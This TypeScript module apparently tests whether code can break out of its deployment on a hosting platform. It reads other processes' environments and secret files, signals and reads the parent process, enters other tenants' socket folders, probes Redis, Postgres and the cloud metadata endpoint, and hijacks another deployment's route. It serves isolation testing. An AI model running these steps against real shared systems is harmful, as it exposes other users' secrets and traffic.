/**
 * Code that tries to leave its deployment. Its input describes the machine as an attacker would find it by looking
 * around.
 */
import { appendFile, lstat, readdir, readFile, symlink } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Annotation, END, START, StateGraph } from '@langchain/langgraph';
import { publish } from './publish.ts';
import { askPostgres, askRedis } from './servers.ts';

export interface Target {
  /** Absolute paths of files with secrets. */
  files: string[];
  /** Null where Redis is no server of the platform's own. */
  redisPort: number | null;
  /** The prefix of another deployment's keys and channels. */
  redisPrefix: string;
  postgresPort: number | null;
  /** The address at which a deployment stands that needs no key of others. */
  rootUrl: string;
  brokers: string[];
  /** The data of a route event of another deployment. */
  route: { deployment_id: string };
}

const State = Annotation.Root({ target: Annotation<Target>(), outcome: Annotation<Record<string, unknown>>() });
const VISITS = join(process.env.HOME ?? '', 'visits');

/** Returns the result, or the code of the error. */
async function attempt(work: () => Promise<unknown>): Promise<unknown> {
  try {
    return await work();
  } catch (error) {
    return (error as NodeJS.ErrnoException).code ?? (error as Error).message;
  }
}

/** Returns the names of the variables in the environments of other users' processes. */
async function readEnvironments(): Promise<string[]> {
  const pids = (await readdir('/proc')).filter((name) => /^\d+$/.test(name));
  const texts = await Promise.all(
    pids.map(async (pid) => {
      const found = await lstat(`/proc/${pid}`).catch(() => null);
      return found?.uid === process.getuid?.() ? '' : readFile(`/proc/${pid}/environ`, 'utf8').catch(() => '');
    }),
  );
  return texts.flatMap((text) => text.split('\0').map((line) => line.split('=')[0] ?? '')).filter(Boolean);
}

/** The home of the user is in the socket folder of its parent. */
const SOCKET_FOLDER = join(tmpdir(), '..');

/**
 * Tries to enter the platform's other socket folders, in the machine's temporary folder. A folder of such a name that
 * the code of another project has made, as its compiler does when its own is gone, is no folder of the platform's.
 */
async function enterSocketFolders(): Promise<unknown[]> {
  const parent = join(SOCKET_FOLDER, '..');
  const names = (await readdir(parent)).filter((name) => /^runyard-[\da-f]{6}-/.test(name));
  const paths = names.map((name) => join(parent, name));
  const owners = await Promise.all(paths.map((path) => lstat(path).catch(() => null)));
  const others = paths.filter((_, index) => owners[index]?.uid === 0 && owners[index].gid !== process.getgid?.());
  return Promise.all(others.map((path) => attempt(() => readdir(path))));
}

async function tryAll({ target }: typeof State.State): Promise<{ outcome: Record<string, unknown> }> {
  const { files, redisPort, redisPrefix, postgresPort, rootUrl, brokers, route } = target;
  return {
    outcome: {
      uid: process.getuid?.(),
      environment: Object.keys(process.env),
      environments: await readEnvironments(),
      files: await Promise.all(files.map((file) => attempt(async () => (await readFile(file)).length))),
      parent: await attempt(async () => process.kill(process.ppid, 'SIGTERM')),
      memory: await attempt(async () => (await readFile(`/proc/${process.ppid}/mem`)).length),
      sockets: await enterSocketFolders(),
      ownSockets: await attempt(() => symlink('/etc', join(SOCKET_FOLDER, 'link'))),
      redis: redisPort === null ? null : await attempt(() => askRedis(redisPort, redisPrefix)),
      postgres: postgresPort === null ? null : await attempt(() => askPostgres(postgresPort)),
      metadata: await attempt(async () => {
        const signal = AbortSignal.timeout(1_000);
        return (await fetch('http://169.254.169.254/latest/meta-data/', { signal })).status;
      }),
      root: await attempt(async () => (await fetch(`${rootUrl}/info`)).status),
      publication: await attempt(() => publishRoute(brokers, route)),
    },
  };
}

/** Publishes a route that leads to a server of its own, which logs its visitors. */
async function publishRoute(brokers: string[], route: Target['route']): Promise<string> {
  const server = createServer((req, res) => void appendFile(VISITS, `${req.url}\n`).finally(() => res.end()));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  server.unref();
  const { port } = server.address() as { port: number };
  await publish(brokers, { ...route, upstreams: [`http://127.0.0.1:${port}`], version: Number.MAX_SAFE_INTEGER });
  return 'published';
}

async function countVisits(): Promise<{ outcome: Record<string, unknown> }> {
  return { outcome: { visits: await readFile(VISITS, 'utf8').catch(() => '') } };
}

export const attempts = new StateGraph(State)
  .addNode('try', tryAll)
  .addEdge(START, 'try')
  .addEdge('try', END)
  .compile();

export const visits = new StateGraph(State)
  .addNode('count', countVisits)
  .addEdge(START, 'count')
  .addEdge('count', END)
  .compile();
